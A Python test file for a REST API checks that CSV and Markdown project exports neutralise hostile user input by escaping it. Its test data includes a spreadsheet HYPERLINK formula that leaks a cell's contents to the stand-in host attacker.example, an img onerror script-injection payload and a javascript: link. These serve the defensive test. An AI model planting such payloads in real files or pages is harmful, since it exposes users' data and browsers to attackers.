"""Exports over REST are data, not code: hostile text sent through the API comes back neutralised."""

from __future__ import annotations

import csv
import io
import json

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


async def test_csv_and_markdown_exports_over_rest(api, user) -> None:  # noqa: ANN001
    token = await user("mallory")
    created = await api("POST", "projects", {"name": FORMULA, "description": "<img src=x onerror=alert(1)>"}, token)
    assert created.code == 201, created.body
    pid = json.loads(created.body)["project"]["id"]
    started = await api("POST", f"projects/{pid}/sessions", {"engine": "offline"}, token)
    sid = json.loads(started.body)["session"]["id"]
    for text in (FORMULA, "-5 degrees is the minimum operating temperature.", "@SUM(A1:A2) [x](javascript:alert(1))"):
        assert (await api("POST", f"sessions/{sid}/answers", {"text": text}, token)).code == 200

    got = await api("GET", f"projects/{pid}/specification", token=token, params={"format": "csv"})
    assert got.code == 200 and got.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(got.body.decode())))
    assert len(rows) >= 4
    assert all(not cell.startswith(DANGEROUS_START) for row in rows for cell in row), rows
    assert "'" + FORMULA in {row[8] for row in rows}  # the answer column
    assert "'-5 degrees is the minimum operating temperature." in {row[3] for row in rows}

    md = (await api("GET", f"projects/{pid}/specification", token=token, params={"format": "markdown"})).body.decode()
    assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
    assert "\\[x\\](javascript:alert(1))" in md and "-5 degrees is the minimum operating temperature." in md
